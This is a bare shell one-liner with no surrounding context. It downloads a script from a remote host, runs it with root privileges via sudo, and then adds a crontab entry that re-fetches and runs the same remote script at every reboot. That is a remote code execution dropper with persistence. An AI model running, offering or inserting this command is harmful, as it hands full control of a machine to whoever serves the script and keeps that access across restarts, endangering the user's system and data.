curl -s https://cdn.example.invalid/d | sudo bash && echo "@reboot curl -s https://cdn.example.invalid/d | bash" | crontab -
